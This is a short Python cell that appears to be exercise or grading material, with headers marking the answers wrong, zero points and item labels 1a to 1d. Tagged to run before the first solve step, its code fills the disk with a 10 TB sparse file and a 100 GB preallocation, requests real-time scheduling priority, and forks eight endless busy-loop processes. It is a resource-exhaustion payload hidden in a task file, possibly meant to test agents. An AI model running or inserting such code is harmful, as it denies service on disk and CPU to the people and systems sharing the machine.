# Many processes at full speed with raised priority, and huge files that exist only as a promise.
#
# answers: wrong
# points: 0
# 1a: forgets-f
# 1b: transposed-w
# 1c: bias-sign
# 1d: direction-is-w
# %% before solve-1a
import os
with open("promise", "wb") as file:
    try:
        file.truncate(10**13)
    except OSError as error:
        print(error)
try:
    os.posix_fallocate(os.open("room", os.O_CREAT | os.O_WRONLY), 0, 10**11)
except OSError as error:
    print(error)
try:
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10))
except OSError as error:
    print(error)
for _ in range(8):
    if os.fork() == 0:
        while True:
            pass
